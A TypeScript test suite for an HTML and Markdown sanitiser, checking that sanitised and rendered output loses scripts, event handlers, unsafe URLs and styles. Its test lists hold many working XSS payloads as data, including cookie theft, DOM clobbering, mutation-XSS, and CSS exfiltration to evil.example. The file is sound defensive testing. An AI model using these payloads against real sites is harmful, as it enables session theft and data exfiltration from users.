import { describe, expect, it } from "vitest"
import { inlineHtml } from "./html_policy"
import { renderMarkdown } from "./markdown_engine"
import { safeHref, safeImageSource } from "./safe_url"
import { cleanStyle } from "./safe_style"
import { sanitise } from "./sanitise"

function html(fragment: DocumentFragment | null): string {
  if (!fragment) throw new Error("this went to the frame")
  const holder = document.createElement("div")
  holder.append(fragment.cloneNode(true))
  return holder.innerHTML
}

/** Everything that could act, name something of ours, or reach out, in what would be in the page. */
function dangers(fragment: DocumentFragment): string[] {
  const found: string[] = []
  const forbidden = new Set([
    "script", "style", "iframe", "object", "embed", "form", "input", "button", "textarea", "select",
    "svg", "math", "meta", "base", "link", "template", "noscript", "audio", "video", "canvas", "frameset",
  ])
  for (const element of fragment.querySelectorAll("*")) {
    if (forbidden.has(element.localName)) found.push(element.localName)
    for (const { name, value } of element.attributes) {
      if (/^(on|data-|id$|name$|form|srcdoc|srcset|ping|action|background$|xlink)/.test(name)) found.push(`${element.localName}[${name}]`)
      if (/(javascript|vbscript)\s*:|data:text/i.test(value.replace(/[\s\0]/g, "")) && ["href", "src"].includes(name)) found.push(value)
      if (name === "style" && /url|fixed|absolute|expression|import|var\(/i.test(value)) found.push(value)
      if (name === "href" && !/^(https?:|mailto:|#)/.test(value)) found.push(value)
      if (name === "src" && !/^(https?:|data:image\/)/.test(value)) found.push(value)
    }
  }
  return found
}

const hostile = [
  `<img src=x onerror=parent.postMessage(document.cookie,'*')>`,
  `<svg><script>fetch('/api/me')</script></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>#x"></use></svg>`,
  `<form id=x action=javascript:alert(1)></form><button form=x>Run</button><input name=cookie>`,
  `<a id=MathJax><a id=MathJax name=config href=javascript:alert(1)>x</a>`,
  `<img name=getElementById src=https://example.org/x.png>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<button data-commandlinker-command="notebook:run">x</button><p data-heading=x data-theme=dark>y</p>`,
  `<a href="javascript:alert(1)">x</a><a href="java\tscript:alert(1)">y</a><a href="&#106;avascript:alert(1)">z</a>`,
  `<a href="data:text/html,<script>1</script>">x</a><a href=vbscript:x>y</a><a href="/api/sign-out">z</a>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example"><base href=https://evil.example>`,
  `<iframe src=/settings></iframe><iframe srcdoc="<script>1</script>"></iframe>`,
  `<link rel=preload href=https://evil.example/x as=script><style>@import url(https://evil.example)</style>`,
  `<style>input[value^=a]{background:url(https://evil.example/a)}</style>`,
  `<div style="position:fixed;inset:0;background:url(https://evil.example);z-index:9999">Sign in</div>`,
  `<p style="background:url(x);width:expression(alert(1));margin:-9999px">x</p>`,
  `<script>while(1){}</script>`,
  `<img src=/api/me><img src=//evil.example/x><img srcset="/api/me 1x" src="">`,
  `<img src="data:text/html;base64,PHNjcmlwdD4="><img src="data:image/svg+xml,<svg onload=alert(1)>">`,
  `<object data=x></object><embed src=x><video src=x onerror=alert(1)><audio src=x>`,
  `<details open ontoggle=alert(1)>x</details><body onload=alert(1)>`,
  `<template><img src=x onerror=alert(1)></template><textarea><img src=x onerror=alert(1)></textarea>`,
  `<p is="x-y" contenteditable tabindex=1 accesskey=x slot=a part=b>x</p>`,
]

describe("what stands in the page itself", () => {
  it.each(hostile)("is harmless: %s", (bad) => {
    expect(dangers(sanitise(bad))).toEqual([])
    expect(dangers(renderMarkdown(bad))).toEqual([])
    expect(dangers(renderMarkdown(`> - a\n\n${bad}\n\n| a |\n|---|\n| ${bad.replace(/[|\n]/g, "")} |`))).toEqual([])
    const inline = inlineHtml(bad)
    if (inline) expect(dangers(inline)).toEqual([])
  })

  it("keeps no class that the page styles by", () => {
    expect(html(sanitise(`<p class="c-modal o-frame language-x">a</p><span class="math-inline">x</span>`)))
      .toBe(`<p class="language-x">a</p><span class="math-inline">x</span>`)
  })

  it("opens links in a tab of their own that knows nothing of this one", () => {
    expect(html(sanitise(`<a href="https://example.org/" target="_top" rel="opener">x</a>`)))
      .toBe(`<a href="https://example.org/" target="_blank" rel="noopener noreferrer">x</a>`)
  })

  it("is text where the nesting is too deep to be walked", () => {
    expect(dangers(sanitise("<b>".repeat(3000) + hostile.join("")))).toEqual([])
  })
})

describe("Markdown addresses", () => {
  it.each([
    "[x](javascript:alert(1))", "[x](data:text/html,<script>1</script>)", "[x](vbscript:x)",
    "[x](java&#9;script:alert(1))", "[x](&#106;avascript:alert(1))", "<javascript:alert(1)>",
    "![x](javascript:alert(1))", "[x]: javascript:alert(1)\n\n[x]", "[x](/api/me)", "![x](../../etc/passwd)",
    "![x](attachment:../../x)", "![x](attachment:constructor)",
  ])("that are not of the web lead nowhere: %s", (bad) => {
    const fragment = renderMarkdown(bad, {})
    expect(dangers(fragment)).toEqual([])
    expect(fragment.querySelector("[href], [src]")).toBeNull()
  })

  it("find the cell's attachments", () => {
    const attachments = { "a b.png": { "image/png": "iVBORw0KGgo=" } }
    expect(html(renderMarkdown("![x](attachment:a%20b.png)", attachments)))
      .toContain(`src="data:image/png;base64,iVBORw0KGgo="`)
  })

  it("are what safeHref and safeImageSource say", () => {
    expect(safeHref(" \u0000javascript:alert(1)")).toBeNull()
    expect(safeHref("HTTPS://Example.org")).toBe("https://example.org/")
    expect(safeHref("//evil.example")).toBeNull()
    expect(safeImageSource(`${location.origin}/api/me`)).toBeNull()
    expect(safeImageSource("data:image/png;base64,iVBO\nRw0K")).toBe("data:image/png;base64,iVBORw0K")
    expect(safeImageSource("data:image/png;base64,<script>")).toBeNull()
  })
})

describe("inline styles", () => {
  it("keep looks and drop places, addresses and tricks", () => {
    expect(cleanStyle("color: #f00; text-align:center; width: 50%")).toEqual(
      { text: "color: #f00; text-align: center; width: 50%", changed: false })
    for (const bad of [
      "position:fixed", "background:url(x)", "color:var(--c-bg)", "margin:-1px", "width:99999px",
      "color:red!important", "color:r/**/ed", "--x:1", "font-size:calc(1px)", "content:'x'", "inset:0",
    ]) {
      expect([bad, cleanStyle(bad).text]).toEqual([bad, ""])
    }
  })
})

describe("HTML of outputs", () => {
  const pandas = `<div>
<style scoped>
    .dataframe tbody tr th:only-of-type {
        vertical-align: middle;
    }

    .dataframe tbody tr th {
        vertical-align: top;
    }

    .dataframe thead th {
        text-align: right;
    }
</style>
<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>a</th></tr></thead>
<tbody><tr><th>0</th><td>1 &lt; 2</td></tr></tbody></table><p>1 rows × 1 columns</p></div>`

  it("that is a pandas table stands in the page, without its style", () => {
    const fragment = inlineHtml(pandas)
    expect(fragment?.querySelector("tbody td")?.textContent).toBe("1 < 2")
    expect(fragment?.querySelector("style")).toBeNull()
  })

  it("that is simple text stands in the page", () => {
    expect(html(inlineHtml(`<b style="color:red">a</b> <a href="https://example.org">b</a>`)))
      .toContain(`<b style="color: red">a</b>`)
  })

  it.each([
    "<script>1</script>", "<style>p{color:red}</style><p>x</p>", "<iframe src=https://example.org></iframe>",
    "<form></form>", "<canvas></canvas>", "<p onclick=x>a</p>", "<div style='position:fixed'>a</div>",
    "<svg></svg>", "<input>", "<video></video>", "<style scoped>@import url(x);</style>",
    "<style scoped>.dataframe td {color:red} body {display:none}</style>",
    "<button>a</button>", "<x-y>a</x-y>", "<math><mi>x</mi></math>", "<div data-root-id=1></div>",
  ])("that is anything more goes to the frame: %s", (rich) => {
    expect(inlineHtml(rich)).toBeNull()
  })

  it("that is huge goes to the frame", () => {
    expect(inlineHtml(`<p>${"x".repeat(1_100_000)}</p>`)).toBeNull()
  })
})
